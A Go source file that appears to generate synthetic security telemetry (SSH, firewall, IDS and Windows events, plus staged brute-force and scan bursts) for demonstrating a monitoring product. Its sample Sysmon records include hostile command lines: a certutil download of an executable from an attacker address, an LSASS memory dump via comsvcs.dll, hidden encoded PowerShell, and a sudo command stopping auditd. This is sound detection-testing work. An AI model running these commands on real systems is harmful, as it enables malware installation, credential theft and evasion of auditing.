// Package demo generates a feed of realistic security telemetry for the
// demo registry (configs/registry.yaml): sshd and sudo syslog from Linux
// servers, firewall denies, IDS alerts in CEF, Windows logon failures and
// process creations, from hosts of several organisations in several sectors
// and from a few unknown assets. `kuzet run` sends it to its collectors over
// syslog TCP and HTTP, so the demo exercises the same path as real devices.
//
// The background comes from many Internet addresses, a few records each,
// as real background noise does. Two attacks stand out of it, once per
// cycle of CycleRecords records (10 minutes at the default 20 records per
// second): a brute-force burst, one address guessing SSH and RDP passwords
// of two objects (one an OT gateway) in BurstAttempts attempts, and a scan,
// one address probing every known object of both OISCs. kuzet's rule pack
// turns each cycle into a handful of correlation alerts.
package demo

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// Asset is a host the feed impersonates.
type Asset struct {
	Host string
	IP   string
	// OISC is the collector's OISC the host reports to.
	OISC string
}

// Assets of the demo registry, by OISC; the last of each list is unknown
// to the registry.
var Assets = []Asset{
	{"ems-01", "10.10.1.5", "oisc-almaty"},
	{"rtu-gw.scada.altyn-grid.example", "10.10.7.20", "oisc-almaty"},
	{"boiler-hmi-1", "172.16.3.10", "oisc-almaty"},
	{"pump-7.telemetry.steppe-gas.example", "10.30.2.7", "oisc-almaty"},
	{"scada-sh-01", "10.80.1.5", "oisc-almaty"},
	{"laptop-guest", "192.168.77.14", "oisc-almaty"},
	{"cbs-db-01", "10.10.4.21", "oisc-astana"},
	{"egov-web-01", "10.50.0.11", "oisc-astana"},
	{"wtp-plc-gw", "10.60.1.2", "oisc-astana"},
	{"ilc-3.signal.rail.example", "10.70.9.3", "oisc-astana"},
	{"ems-bt-01", "10.81.1.5", "oisc-astana"},
	{"cbs-dala-01", "10.82.1.5", "oisc-astana"},
	{"pay-gw-01", "10.83.1.5", "oisc-astana"},
	{"kiosk-unknown", "192.168.200.9", "oisc-astana"},
}

// attackers are the addresses of the attacks, one per cycle; the
// background's addresses are drawn from the same networks (noise).
var attackers = []string{"185.220.101.4", "45.155.205.233", "91.240.118.172", "194.26.29.120", "103.145.13.7"}
var users = []string{"root", "admin", "operator", "scada", "oracle", "test", "backup", "i.petrov"}

// guessed are the user names of the brute-force burst.
var guessed = []string{"root", "admin", "operator", "scada", "engineer", "support", "ubuntu", "pi", "oracle", "postgres", "backup", "user", "guest", "test"}

// A cycle: quiet for burstStart records, then the brute-force burst (every
// burstEvery-th record an attempt, BurstAttempts attempts), then the scan
// at scanStart (every other record a probe, scanProbes probes).
const (
	// CycleRecords is the length of the feed's cycle in records.
	CycleRecords = 12000
	// BurstAttempts is the number of failed logins of one brute-force burst.
	BurstAttempts = 1200
	burstStart    = 1200
	burstEvery    = 3
	scanStart     = 7200
)

// campaign is whom a cycle's brute-force burst targets: a Linux host over
// SSH and a Windows host over RDP, each with its OISC.
type campaign struct {
	sshHost, sshOISC, rdpHost, rdpOISC string
}

var campaigns = []campaign{
	{"rtu-gw.scada.altyn-grid.example", "oisc-almaty", "cbs-app-01", "oisc-astana"},
	{"egov-web-01", "oisc-astana", "wtp-plc-gw", "oisc-astana"},
}

// scanPorts are the ports of the scan: remote access, web, SMB and the
// industrial protocols (Modbus, S7, DNP3).
var scanPorts = []int{22, 80, 443, 445, 502, 102, 3389, 20000}

var almaty = time.FixedZone("ALMT", 5*3600)

// Record is one raw record and the kind of input it goes to.
type Record struct {
	// Input is "syslog" (a syslog TCP input with the syslog pipeline) or
	// "winevent" (an HTTP input with the winevent pipeline).
	Input string
	OISC  string
	Data  []byte
}

// Generator produces records. Not safe for concurrent use.
type Generator struct {
	rnd *rand.Rand
	now func() time.Time
	n   int // records produced
}

// NewGenerator returns a generator with a fixed seed, so feeds repeat.
func NewGenerator(seed uint64, now func() time.Time) *Generator {
	if now == nil {
		now = time.Now
	}
	return &Generator{rnd: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), now: now}
}

func (g *Generator) pick(s []string) string { return s[g.rnd.IntN(len(s))] }

// noise returns a background address: one of 65,536 in an attacker's /16.
func (g *Generator) noise() string {
	var a, b int
	fmt.Sscanf(g.pick(attackers), "%d.%d.", &a, &b)
	return fmt.Sprintf("%d.%d.%d.%d", a, b, g.rnd.IntN(256), 1+g.rnd.IntN(254))
}

// Next returns the next record: an attack's record when the cycle is in
// one, else a background record.
func (g *Generator) Next() Record {
	i, cycle := g.n%CycleRecords, g.n/CycleRecords
	g.n++
	if k := i - burstStart; k >= 0 && k < BurstAttempts*burstEvery && k%burstEvery == 0 {
		return g.attempt(cycle, k/burstEvery)
	}
	if k := i - scanStart; k >= 0 && k < 2*scanProbes() && k%2 == 0 {
		return g.probe(cycle, k/2)
	}
	return g.background()
}

// attempt is the n-th failed login of a cycle's brute-force burst: SSH and
// RDP in turn, passwords of existing accounts (not invalid users).
func (g *Generator) attempt(cycle, n int) Record {
	c := campaigns[cycle%len(campaigns)]
	attacker := attackers[cycle%len(attackers)]
	now := g.now()
	user := guessed[(n/2)%len(guessed)]
	port := 40000 + g.rnd.IntN(20000)
	if n%2 == 0 {
		return Record{"syslog", c.sshOISC, fmt.Appendf(nil, "<38>1 %s %s sshd %d - - Failed password for %s from %s port %d ssh2",
			now.UTC().Format(time.RFC3339Nano), c.sshHost, 1000+g.rnd.IntN(30000), user, attacker, port)}
	}
	return Record{"winevent", c.rdpOISC, winEvent(now, c.rdpHost, 4625, "Security", "Microsoft-Windows-Security-Auditing", map[string]any{
		"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": 10, "Status": "0xc000006d", "SubStatus": "0xc000006a",
		"IpAddress": attacker, "IpPort": fmt.Sprint(port), "WorkstationName": "-", "LogonProcessName": "User32",
	})}
}

// scanTargets are the known assets the scan probes.
func scanTargets() []Asset {
	var out []Asset
	for _, a := range Assets {
		if !strings.HasPrefix(a.IP, "192.168.") { // the unknown ones
			out = append(out, a)
		}
	}
	return out
}

func scanProbes() int { return len(scanTargets()) * len(scanPorts) }

// probe is the n-th connection of a cycle's scan, denied at the edge: port
// by port, every known object in turn.
func (g *Generator) probe(cycle, n int) Record {
	ts := scanTargets()
	a := ts[n%len(ts)]
	port := scanPorts[(n/len(ts))%len(scanPorts)]
	scanner := attackers[(cycle+2)%len(attackers)]
	return g.deny(g.now(), scanner, a, port)
}

// deny is a FortiGate deny at the edge (key=value in syslog); its date
// and time are the firewall's local time (Almaty).
func (g *Generator) deny(now time.Time, src string, a Asset, port int) Record {
	// As FortiOS writes it: date and time in the device's zone (Almaty),
	// tz its offset, eventtime the instant in nanoseconds.
	local := now.In(almaty)
	return Record{"syslog", a.OISC, fmt.Appendf(nil, `<189>%s fw-edge-1 date=%s time=%s devname="FG-100F" logid="0000000013" eventtime=%d tz="+0500" type="traffic" subtype="forward" level="warning" srcip=%s srcport=%d dstip=%s dstport=%d proto=6 action="deny" policyid=7`,
		local.Format(time.Stamp), local.Format("2006-01-02"), local.Format("15:04:05"), now.UnixNano(),
		src, 40000+g.rnd.IntN(20000), a.IP, port)}
}

// background is one record of the background.
func (g *Generator) background() Record {
	a := Assets[g.rnd.IntN(len(Assets))]
	now := g.now()
	attacker := g.noise()
	user := g.pick(users)
	port := 40000 + g.rnd.IntN(20000)
	pid := 1000 + g.rnd.IntN(30000)
	switch g.rnd.IntN(7) {
	case 0: // RFC 5424 sshd failure
		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<38>1 %s %s sshd %d - - Failed password for invalid user %s from %s port %d ssh2",
			now.UTC().Format(time.RFC3339Nano), a.Host, pid, user, attacker, port)}
	case 1: // RFC 3164 sshd accepted
		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<86>%s %s sshd[%d]: Accepted publickey for %s from 10.20.0.%d port %d ssh2",
			now.In(time.FixedZone("ALMT", 5*3600)).Format(time.Stamp), a.Host, pid, user, 2+g.rnd.IntN(200), port)}
	case 2: // RFC 3164 sudo
		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<85>%s %s sudo: %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd",
			now.In(time.FixedZone("ALMT", 5*3600)).Format(time.Stamp), a.Host, user, user)}
	case 3: // CEF IDS alert inside syslog
		sig := []string{"ET SCAN Nmap Scripting Engine User-Agent Detected", "ET EXPLOIT Possible Modbus Write Single Register",
			"ET POLICY Outbound RDP Connection", "GPL ATTACK_RESPONSE id check returned root"}[g.rnd.IntN(4)]
		return Record{"syslog", a.OISC, fmt.Appendf(nil, "<132>%s ids-01 CEF:0|OISF|Suricata|7.0.3|%d|%s|%d|src=%s spt=%d dst=%s dpt=%d proto=TCP act=alert",
			now.In(time.FixedZone("ALMT", 5*3600)).Format(time.Stamp), 2000000+g.rnd.IntN(10000), sig, 3+g.rnd.IntN(7),
			attacker, port, a.IP, []int{22, 80, 443, 502, 3389}[g.rnd.IntN(5)])}
	case 4: // FortiGate deny at the edge
		return g.deny(now, attacker, a, []int{23, 502, 3389, 445}[g.rnd.IntN(4)])
	case 5: // Windows failed logon (4625), evtx_dump shape
		return Record{"winevent", a.OISC, winEvent(now, a.Host, 4625, "Security", "Microsoft-Windows-Security-Auditing", map[string]any{
			"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": 3, "Status": "0xc000006d", "SubStatus": "0xc0000064",
			"IpAddress": attacker, "IpPort": fmt.Sprint(port), "WorkstationName": "-", "LogonProcessName": "NtLmSsp",
		})}
	default: // Sysmon process creation with a suspicious command line
		cmd := []string{`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`,
			`cmd.exe /c whoami /all`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`,
			`certutil.exe -urlcache -split -f http://` + attacker + `/a.exe C:\Users\Public\a.exe`}[g.rnd.IntN(4)]
		image := `C:\Windows\System32\` + cmd[:len(cmdName(cmd))]
		return Record{"winevent", a.OISC, winEvent(now, a.Host, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", map[string]any{
			"UtcTime": now.UTC().Format("2006-01-02 15:04:05.000"), "ProcessId": pid, "Image": image, "CommandLine": cmd,
			"User": `CORP\` + user, "ParentImage": `C:\Windows\explorer.exe`, "IntegrityLevel": "High", "LogonId": "0x3e7",
		})}
	}
}

func cmdName(cmd string) string {
	for i, c := range cmd {
		if c == ' ' {
			return cmd[:i]
		}
	}
	return cmd
}

// winEvent renders an event in evtx_dump's JSON shape, one line.
func winEvent(now time.Time, host string, id int, channel, provider string, data map[string]any) []byte {
	doc := map[string]any{"Event": map[string]any{
		"#attributes": map[string]any{"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
		"System": map[string]any{
			"Provider":    map[string]any{"#attributes": map[string]any{"Name": provider}},
			"EventID":     id,
			"Channel":     channel,
			"Computer":    host,
			"TimeCreated": map[string]any{"#attributes": map[string]any{"SystemTime": now.UTC().Format("2006-01-02T15:04:05.000000Z")}},
		},
		"EventData": data,
	}}
	b, _ := json.Marshal(doc)
	return b
}

// Run calls send with records at rate per second until ctx ends.
func (g *Generator) Run(ctx context.Context, rate int, send func(Record) error) error {
	if rate <= 0 {
		rate = 20
	}
	tick := time.NewTicker(time.Second / time.Duration(min(rate, 1000)))
	defer tick.Stop()
	per := max(1, rate/1000)
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
			for i := 0; i < per; i++ {
				if err := send(g.Next()); err != nil {
					return err
				}
			}
		}
	}
}
